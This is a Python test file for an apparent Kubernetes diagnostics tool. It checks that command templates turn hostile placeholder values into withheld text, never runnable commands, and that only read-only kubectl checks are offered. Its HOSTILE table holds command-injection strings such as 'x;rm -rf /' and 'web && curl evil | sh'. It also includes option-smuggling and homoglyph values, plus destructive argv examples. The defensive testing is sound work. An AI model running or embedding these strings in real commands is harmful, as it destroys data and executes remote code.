"""Hostile names in every placeholder of every check template: never a command carrying them.

The templates are read from `knowledge/checks.yaml` (all of them, none picked by hand); each
placeholder of each template is filled with each hostile name while the others keep valid ones.
"""

from __future__ import annotations

import dataclasses
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opslens.analysis import checks
from opslens.analysis.checks import Names
from opslens.analysis.command_names import is_valid, placeholders
from opslens.analysis.findings import Check
from opslens.guard import Label, classify
from opslens.report.commands import vet_checks
from opslens.report.models import SafetyLabel

VALID = Names(
    ns="shop",
    kind="deployment",
    name="checkout",
    pod="checkout-7d9f8b6c5-x2lqp",
    node="ip-10-0-1-23.eu-west-1.compute.internal",
    since="2025-03-14 02:25:00",
    revision="7",
    container="app",
    model="fraud-score",
)

HOSTILE = {
    "semicolon": "x;rm -rf /",
    "and": "web && curl evil | sh",
    "or-true": "web || true",
    "pipe": "web|sh",
    "substitution": "$(curl evil)",
    "variable": "${HOME}",
    "backtick": "`id`",
    "newline": "web-1\nrm -rf /",
    "trailing-newline": "web-1\n",
    "carriage-return": "web-1\rrm",
    "tab": "web\t1",
    "nul": "web\x001",
    "leading-dashes": "--kubeconfig=/tmp/evil",
    "short-option": "-A",
    "space": "my namespace",
    "single-quote": "web'1",
    "double-quote": 'web"1',
    "redirect": ">/etc/passwd",
    "glob": "*",
    "backslash": "web\\;1",
    "cyrillic-a": "cаrt",
    "fullwidth": "ｃart",
    "arabic-digits": "١٢٣",
    "zero-width": "web\u200b1",
    "bidi-override": "web\u202e1",
    "uppercase": "Checkout",
    "long-300": "a" * 300,
    "dot-dot": "..",
    "slash": "shop/../kube-system",
}


def _cases() -> list[tuple[checks.Template, str, str, str]]:
    cases = []
    for template in checks.templates():
        fields = set().union(*(placeholders(t) for t in shlex.split(template.cmd)))
        for field in sorted(fields):
            cases += [(template, field, label, value) for label, value in HOSTILE.items()]
    return cases


CASES = _cases()


def _render(template: checks.Template, names: Names) -> Check | None:
    return checks.render_check(template.cmd, template.purpose, names, template.category)


def test_the_knowledge_has_templates_with_placeholders_to_attack() -> None:
    # guards the table below against silently testing nothing
    assert len(checks.templates()) >= 40
    assert {field for _, field, _, _ in CASES} >= {"ns", "kind", "name", "pod", "node", "since"}


@pytest.mark.parametrize(("template", "field", "label", "value"), CASES,
                         ids=[f"{t.category}:{t.cmd[:40]}:{f}:{lbl}" for t, f, lbl, _ in CASES])
def test_a_hostile_name_gives_words_never_a_command(template: checks.Template, field: str, label: str, value: str) -> None:
    check = _render(template, dataclasses.replace(VALID, **{field: value}))
    assert check is not None
    assert check.argv == () and check.cmd == ""
    assert check.withheld and "not shown as a command" in check.withheld
    # the words never echo the name: they are the template's purpose and a fixed reason
    other = _render(template, dataclasses.replace(VALID, **{field: "other;name"}))
    assert check.purpose == template.purpose and other is not None and check.withheld == other.withheld
    vetted = vet_checks([check])
    assert vetted.commands == [] and vetted.needs_approval == [] and vetted.dropped == []
    assert vetted.in_words == [f"{template.purpose} ({check.withheld})"]


@pytest.mark.parametrize("template", checks.templates(), ids=lambda t: f"{t.category}:{t.cmd}")
def test_every_template_with_valid_names_is_a_read_only_argv_that_round_trips(template: checks.Template) -> None:
    check = _render(template, VALID)
    assert check is not None and check.argv
    assert tuple(shlex.split(check.cmd)) == check.argv
    for token, filled in zip(shlex.split(template.cmd), check.argv, strict=True):
        for field in placeholders(token):
            assert getattr(VALID, field) in filled
    assert classify(check.cmd).label is Label.READ_ONLY, check.cmd
    vetted = vet_checks([check])
    assert [c.cmd for c in vetted.commands] == [check.cmd]
    assert all(c.safety is SafetyLabel.READ_ONLY for c in vetted.commands)


def test_a_missing_name_drops_the_check_and_an_empty_name_counts_as_missing() -> None:
    for template in checks.templates():
        fields = set().union(*(placeholders(t) for t in shlex.split(template.cmd)))
        for field in fields:
            assert _render(template, dataclasses.replace(VALID, **{field: None})) is None
            assert _render(template, dataclasses.replace(VALID, **{field: ""})) is None


@pytest.mark.parametrize(
    ("argv", "placed"),
    [
        (("kubectl", "get", "pods"), "commands"),
        (("kubectl", "delete", "pod", "x"), "dropped"),
        (("rm", "-rf", "/var/lib/kubelet"), "dropped"),
        (("kubectl", "get", "secret", "db", "-o", "yaml"), "needs_approval"),
        (("frobnicate", "--now"), "needs_approval"),
    ],
)
def test_only_read_only_commands_become_checks_and_state_changes_are_not_offered(argv: tuple[str, ...], placed: str) -> None:
    vetted = vet_checks([Check(argv=argv, purpose="p")])
    where = {name: [c.cmd for c in getattr(vetted, name)] for name in ("commands", "needs_approval", "dropped")}
    assert where[placed] == [shlex.join(argv)]
    assert sum(len(v) for v in where.values()) == 1


# --- property: arbitrary text in any placeholder -------------------------------------------

_NAMEISH = st.from_regex(r"[a-z0-9][-a-z0-9.]{0,20}[a-z0-9]", fullmatch=True)
_ANY = st.one_of(st.text(max_size=80), _NAMEISH, st.sampled_from(list(HOSTILE.values())))


@settings(max_examples=300, deadline=None)
@given(
    template=st.sampled_from(checks.templates()),
    values=st.fixed_dictionaries({f.name: st.one_of(st.none(), _ANY) for f in dataclasses.fields(Names)}),
)
def test_any_text_either_drops_the_command_or_fills_it_with_valid_names(template: checks.Template, values: dict) -> None:
    names = Names(**values)
    check = _render(template, names)
    if check is None or not check.argv:
        return
    tokens = shlex.split(template.cmd)
    assert len(check.argv) == len(tokens)
    assert tuple(shlex.split(check.cmd)) == check.argv
    for token, filled in zip(tokens, check.argv, strict=True):
        fields = placeholders(token)
        for field in fields:
            assert is_valid(checks.naming_rule(field), getattr(names, field))
        assert filled == token.format(**{f: getattr(names, f) for f in fields})
        if fields:  # a filled word is plain printable ASCII and never an option
            assert filled.isascii() and filled.isprintable() and not filled.startswith("-")
